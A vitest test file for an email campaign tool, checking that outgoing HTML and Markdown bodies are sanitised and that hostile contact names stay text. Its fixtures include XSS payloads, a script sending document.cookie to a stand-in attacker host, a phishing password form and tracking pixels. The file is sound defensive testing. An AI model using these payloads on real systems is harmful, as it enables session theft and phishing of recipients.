// CH-EMAIL / SEC-3 end to end on a real SMTP server: the HTML that leaves is sanitised (no script,
// frame, form, event handler, remote image), whether the body was HTML or Markdown with raw HTML;
// a hostile name stays text; and the composer's preview is exactly the HTML sent.
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeOrg, makeSource } from '../../test/factories.ts';
import { htmlProblems } from '../../test/html-allowlist.ts';
import { startSmtpSink } from '../../test/smtp-sink.ts';
import { openTestServices, type TestServices } from '../../test/test-db.ts';
import { addContact } from '../domain/contacts/contacts.ts';
import { campaignStatus, createCampaign, moveCampaign } from '../domain/outreach/campaigns.ts';
import { planCampaign } from '../domain/outreach/plan-campaign.ts';
import { previewCampaign } from '../domain/outreach/preview-campaign.ts';
import { saveSegment } from '../domain/segments/segments.ts';
import { smtpChannel } from './channels/smtp.ts';
import { Dispatcher } from './dispatcher.ts';

let s: TestServices;
let sink: Awaited<ReturnType<typeof startSmtpSink>>;
let orgId: string;
let segmentId: string;
const publicUrl = 'https://isoloir.exemple-2027.fr';
const mailDomain = 'exemple-2027.fr';
// One word: the first name merged is the first word of the first names.
const HOSTILE_FIRST = '<img/src=https://pixel.exemple/x.gif/onerror=alert(1)>';
const HOSTILE_LAST = '<script>alert(1)</script>';

beforeAll(async () => {
  s = await openTestServices({ clock: () => new Date('2026-11-24T10:00:00Z') });
  sink = await startSmtpSink();
  orgId = (await makeOrg(s, { noticePurposes: 'informer', noticeRecipients: 'l’équipe' })).id;
  const source = await makeSource(s, orgId, { type: 'member_file', obtainedOn: '2026-09-01' });
  for (const identity of [
    { birthName: 'Martin', firstNames: 'Alice', email: 'alice@exemple.fr' },
    { birthName: HOSTILE_LAST, firstNames: HOSTILE_FIRST, email: 'bruno@exemple.fr' },
  ])
    await addContact(s.db, { keys: s.keys, orgId, sourceId: source.id, identity, actor: 'test' });
  segmentId = (
    await saveSegment(s.db, { orgId, input: { name: 'Tous', where: { and: [] } }, actor: 'test' })
  ).id;
});
afterAll(async () => {
  await sink.close();
  await s.dispose();
});

const HOSTILE_HTML =
  '<h1 onclick="steal()">Réunion publique</h1>' +
  '<p style="background:url(https://pixel.exemple/bg.gif)">Bonjour {{firstName}} {{lastName}},</p>' +
  '<script>document.location="https://evil.exemple/?c="+document.cookie</script>' +
  '<iframe src="https://evil.exemple/frame"></iframe>' +
  '<form action="https://evil.exemple/phish"><input name="password"><button>OK</button></form>' +
  '<img src="https://pixel.exemple/open.gif" width="1" height="1">' +
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">' +
  '<svg onload="alert(1)"><circle r="1"/></svg><object data="x.swf"></object><embed src="x.swf">' +
  '<base href="https://evil.exemple/"><meta http-equiv="refresh" content="0;url=https://evil.exemple">' +
  '<link rel="stylesheet" href="https://evil.exemple/s.css"><style>@import url(https://evil.exemple/t.css)</style>' +
  '<p><a href="javascript:alert(1)">cliquez</a> <a href="https://exemple-2027.fr/programme" onmouseover="x()">programme</a></p>' +
  '<ul><li>jeudi</li></ul><table><tr><td>19 h</td></tr></table>';

async function sendAll(campaignId: string) {
  const d = new Dispatcher({
    db: s.db,
    keys: s.keys,
    clock: s.clock,
    channel: smtpChannel({ url: sink.url }),
    publicUrl,
    mailDomain,
  });
  for (let i = 0; i < 20; i++) {
    await d.runOnce();
    if ((await campaignStatus(s.db, { campaignId })).state === 'done') return;
  }
  throw new Error('the campaign did not finish');
}

/** Plans, previews and sends a campaign; returns the preview and the messages received. */
async function previewAndSend(body: string, bodyFormat: 'html' | 'markdown') {
  const campaign = await createCampaign(s.db, {
    orgId,
    input: {
      segmentId,
      fromName: 'Liste Exemple 2027',
      fromEmail: 'contact@exemple-2027.fr',
      subject: 'Réunion publique',
      body,
      bodyFormat,
    },
    actor: 'test',
    clock: s.clock,
  });
  const plan = await planCampaign(s.db, { campaignId: campaign.id, actor: 'test', clock: s.clock });
  expect(plan.violations).toEqual([]);
  const preview = await previewCampaign(s.db, {
    keys: s.keys,
    campaignId: campaign.id,
    publicUrl,
    mailDomain,
    actor: 'test',
    clock: s.clock,
  });
  const before = sink.received.length;
  await moveCampaign(s.db, {
    campaignId: campaign.id,
    move: 'send',
    actor: 'test',
    clock: s.clock,
  });
  await sendAll(campaign.id);
  const received = await Promise.all(
    sink.received.slice(before).map(async (m) => ({ to: m.to, mail: await simpleParser(m.raw) })),
  );
  expect(received).toHaveLength(2);
  return { preview, received };
}

describe('the HTML sent (CH-EMAIL, SEC-3)', () => {
  it('CH-EMAIL/SEC-3: the HTML sent has no script, iframe, form, event handler or remote image (an HTML body)', async () => {
    const { received } = await previewAndSend(HOSTILE_HTML, 'html');
    for (const { mail } of received) expect(htmlProblems(mail.html as string)).toEqual([]);
    // Alice's name is harmless, so her message's text can be searched for what must be gone.
    for (const { mail } of received.filter((r) => r.to[0] === 'alice@exemple.fr')) {
      const html = mail.html as string;
      expect(html).not.toMatch(
        /<(script|iframe|form|input|img|svg|object|embed|base|meta|link|style)\b/i,
      );
      expect(html).not.toMatch(/\son\w+=|javascript:|data:image|pixel\.exemple|evil\.exemple/i);
      // What is harmless stays.
      expect(html).toContain('<h1>Réunion publique</h1>');
      expect(html).toContain('<a href="https://exemple-2027.fr/programme">programme</a>');
      expect(html).toContain('<li>jeudi</li>');
    }
  });

  it('CH-EMAIL/SEC-3: the HTML sent has no script, iframe, form, event handler or remote image (Markdown with raw HTML)', async () => {
    const markdown =
      '# Réunion publique\n\nBonjour {{firstName}},\n\n' +
      '<img src="https://pixel.exemple/open.gif">\n\n' +
      '<div onmouseover="alert(1)">survolez</div>\n\n' +
      '<script>alert(1)</script>\n\n<iframe src="https://evil.exemple"></iframe>\n\n' +
      '[cliquez](javascript:alert(1)) ![pixel](https://pixel.exemple/p.gif)\n\n' +
      '<form><input type="submit"></form>\n\n[le programme](https://exemple-2027.fr/programme)\n';
    const { received } = await previewAndSend(markdown, 'markdown');
    for (const { mail } of received) expect(htmlProblems(mail.html as string)).toEqual([]);
    for (const { mail } of received.filter((r) => r.to[0] === 'alice@exemple.fr')) {
      const html = mail.html as string;
      expect(html).not.toMatch(
        /<(script|iframe|form|input|img)\b|\son\w+=|javascript:|pixel\.exemple/i,
      );
      expect(html).toContain('<h1>Réunion publique</h1>');
      expect(html).toContain('<a href="https://exemple-2027.fr/programme">le programme</a>');
      expect(mail.text).not.toMatch(/pixel\.exemple|javascript:/);
    }
  });

  it('CH-EMAIL: a hostile name stays text once merged after sanitising, in the HTML and the preview', async () => {
    const { preview, received } = await previewAndSend(
      '<p>Bonjour {{firstName}} {{lastName}}, <a href="{{firstName}}">lien</a></p>',
      'html',
    );
    const hostile = received.find((r) => r.to[0] === 'bruno@exemple.fr')!.mail.html as string;
    expect(htmlProblems(hostile)).toEqual([]);
    expect(hostile).toContain(
      'Bonjour &#60;img/src=https://pixel.exemple/x.gif/onerror=alert(1)&#62; &#60;script&#62;alert(1)&#60;/script&#62;,',
    );
    expect(hostile).toContain('<a>lien</a>');
    expect(htmlProblems(preview.html)).toEqual([]);
  });

  it('CH-EMAIL/SEC-3: the preview shows exactly the HTML sent to that recipient', async () => {
    const { preview, received } = await previewAndSend(HOSTILE_HTML, 'html');
    const sent = received.find((r) => r.to[0] === preview.to)!.mail;
    const ref = (sent.headers.get('x-isoloir-ref') as string).trim();
    const same = (sent.html as string)
      .replace(/\/u\/[0-9a-f]{32}\.[\w-]{22}/g, '/u/preview')
      .replaceAll(ref, 'preview');
    expect(same.trimEnd()).toBe(preview.html.trimEnd());
    expect(htmlProblems(preview.html)).toEqual([]);
  });
});
